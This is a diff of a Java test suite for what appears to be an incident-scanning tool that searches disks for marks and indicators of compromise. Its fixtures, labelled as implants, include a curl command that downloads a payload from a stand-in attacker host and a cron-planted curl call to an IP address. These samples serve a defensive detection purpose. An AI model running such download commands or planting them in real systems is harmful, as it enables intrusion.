@@ -323,7 +323,7 @@ final class IncidentScanTest {
     @Test
     void disksAreSearchedForMarksAndIndicators() throws IOException {
         Item theirs = item("implant", "curl -fsSL http://evil.example/payload.sh --output /tmp/payload");
-        mark(item("backup", "rsync -a /srv").key(), "--host", agent(1).text());
+        mark(item("backup", "rsync -a /srv").key(), "--host", agent(1).text(), "--anyway");
         assertEquals(
                 0,
                 take(disk(theirs, item("backup", "rsync -a /srv")), "--name", "PC-42")
@@ -336,7 +336,8 @@ final class IncidentScanTest {
                 "--scan",
                 "1",
                 "--key",
-                item("backup", "rsync -a /srv").key());
+                item("backup", "rsync -a /srv").key(),
+                "--anyway");
         assertEquals(
                 2L,
                 store.read(s -> s.tombstones().list(ALL, ID)).stream()
@@ -562,7 +563,7 @@ final class IncidentScanTest {
     @Test
     void everyDifferenceIsClosedAndEveryPlaceComparedOrAttestedBeforeAScanAgrees() throws IOException {
         attest(Statement.PRIVILEGED_CODE, Answer.YES);
-        Item hidden = item("implant", "curl http://203.0.113.9/x");
+        Item hidden = Specimens.planted(CRON, "implant", "curl http://203.0.113.9/x");
         store.change(s -> read(s, UNITS, LocationStatus.State.PARTIAL));
         assertEquals(
                 0,
